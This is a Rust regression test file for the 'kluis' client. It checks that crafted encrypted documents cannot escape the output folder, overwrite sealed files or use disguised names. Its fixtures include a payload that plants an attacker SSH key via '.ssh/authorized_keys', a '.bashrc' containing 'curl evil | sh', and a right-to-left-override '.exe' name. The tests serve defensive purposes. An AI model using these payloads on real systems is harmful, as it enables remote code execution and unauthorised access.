//! Regression tests for the client defects of issue 17 (section 1): the real `kluis` binary
//! against a real `kluis-server` process.

mod common;

use common::{Server, User, tree, write};
use kluis_core::{Metadata, Recipient, Slot};

/// A document sealed to label `hr` of `server`, storing `name`, as anyone can craft one (label
/// public keys need no login).
fn crafted(server: &Server, name: &str, payload: &[u8]) -> Vec<u8> {
    let slots = [Slot::single(Recipient::Label(server.label_key("hr")))];
    kluis_core::seal(&slots, &Metadata::default().name(name), payload).unwrap()
}

/// Defect 4: a document opened on its own writes a plain file name in the output folder: no
/// folders, no dot-files unless asked for.
#[test]
fn a_single_document_writes_only_a_plain_file_name() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(
        &alice.path("a.kluis"),
        &crafted(
            &server,
            ".ssh/authorized_keys",
            b"ssh-ed25519 AAAA attacker",
        ),
    );
    alice.run(&["open", "a.kluis"]).ok();
    assert!(!alice.path(".ssh").exists(), "no folder is created");
    assert_eq!(
        std::fs::read(alice.path("authorized_keys")).unwrap(),
        b"ssh-ed25519 AAAA attacker"
    );

    // A hidden file is refused unless asked for, and nothing is written.
    write(
        &alice.path("b.kluis"),
        &crafted(&server, ".bashrc", b"curl evil | sh"),
    );
    let run = alice.run(&["open", "-o", "out", "b.kluis"]);
    run.fails(2, "--allow-dotfiles");
    assert!(tree(&alice.path("out")).is_empty());
    alice
        .run(&["open", "-o", "out", "--allow-dotfiles", "b.kluis"])
        .ok();
    assert_eq!(tree(&alice.path("out")), [".bashrc"]);

    // Inside a folder the paths are kept, below the output folder, and listed.
    write(
        &alice.path("in/c.kluis"),
        &crafted(&server, "x/y/plan.txt", b"plan"),
    );
    let run = alice.run(&["open", "-o", "back", "in"]).ok();
    assert_eq!(tree(&alice.path("back")), ["x/y/plan.txt"]);
    assert!(run.stderr.contains("plan.txt"), "{}", run.stderr);
}

/// Defect 4: `-f` never replaces a sealed document, whatever name a crafted one stores.
#[test]
fn force_never_replaces_a_sealed_document() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(&alice.path("d.txt"), b"precious");
    alice.run(&["seal", "--label", "hr", "d.txt"]).ok();
    let before = std::fs::read(alice.path("d.txt.kluis")).unwrap();
    for (file, name) in [("c.kluis", "d.txt.kluis"), ("e.kluis", "D.TXT.KLUIS")] {
        write(&alice.path(file), &crafted(&server, name, b"junk"));
        let run = alice.run(&["open", "-f", file]);
        assert_ne!(run.code, 0, "{}", run.stderr);
        assert!(run.stderr.contains("refused"), "{}", run.stderr);
    }
    assert_eq!(std::fs::read(alice.path("d.txt.kluis")).unwrap(), before);
    assert!(!alice.path("D.TXT.KLUIS").exists());
}

/// Defect 4: bidirectional overrides and names over the file system's limit are refused with a
/// message that says why (not "try again"), and the name is not echoed.
#[test]
fn disguised_and_overlong_names_are_refused_clearly() {
    let server = Server::start();
    let alice = User::logged_in(&server, &server.alice);
    write(
        &alice.path("bidi.kluis"),
        &crafted(&server, "invoice\u{202E}fdp.exe", b"MZ"),
    );
    alice
        .run(&["open", "-o", "out", "bidi.kluis"])
        .fails(7, "formatting character");
    let long = "n".repeat(300);
    write(&alice.path("long.kluis"), &crafted(&server, &long, b"x"));
    let run = alice
        .run(&["open", "-o", "out", "long.kluis"])
        .fails(7, "longer than 255 bytes");
    assert!(!run.stderr.contains("try again"), "{}", run.stderr);
    assert!(!run.stderr.contains(&long));
    assert!(tree(&alice.path("out")).is_empty());
}
